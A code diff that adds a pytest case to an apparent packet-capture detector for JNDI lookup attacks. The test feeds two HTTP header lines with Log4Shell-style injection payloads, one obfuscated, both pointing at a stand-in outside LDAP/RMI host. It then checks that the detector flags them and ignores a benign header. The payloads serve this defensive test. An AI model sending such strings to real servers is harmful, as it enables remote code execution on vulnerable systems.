@@ -101,3 +101,23 @@ def test_high_where_the_server_tried_to_connect() -> None:
     found = drafts(jndi_lookups, rows.sessions(syn, http=family("http", row)))
     assert [(d.priority, d.confidence) for d in found] == [("high", "medium")]
     assert "port 389 (no answer)" in found[0].summary
+
+
+@pytest.mark.parametrize(
+    "line", ["X-Api-Version: ${jndi:ldap://203.0.113.99:1389/a}", "X-Trace: ${${lower:j}ndi:rmi://203.0.113.99/a}"]
+)
+def test_in_a_header_that_no_column_holds(loaded: Any, tmp_path: Path, line: str) -> None:
+    ask = wire.http_request("GET", "/", headers=f"User-Agent: curl/8.0\r\n{line}\r\nAccept: */*\r\n")
+    plain = wire.http_request("GET", "/", headers="X-Api-Version: 1.0 (${title})\r\n")
+    path = wire.write(
+        tmp_path / "header.pcap",
+        [
+            *wire.conversation(0, wire.OUTSIDE, wire.SERVER, (46000, 80), [("c", ask), ("s", wire.http_answer(200))]),
+            *wire.conversation(1, wire.CLIENT, wire.SERVER, (46001, 80), [("c", plain), ("s", wire.http_answer(200))]),
+        ],
+    )
+    found = drafts(jndi_lookups, loaded(path).tables)
+    assert [(d.subject, d.priority) for d in found] == [(f"{wire.OUTSIDE} to {wire.SERVER}:80", "medium")]
+    assert f"in the {line.split(':')[0].lower()} header" in found[0].summary
+    assert "203.0.113.99" in found[0].summary
+    assert wire.exact(path, found[0])
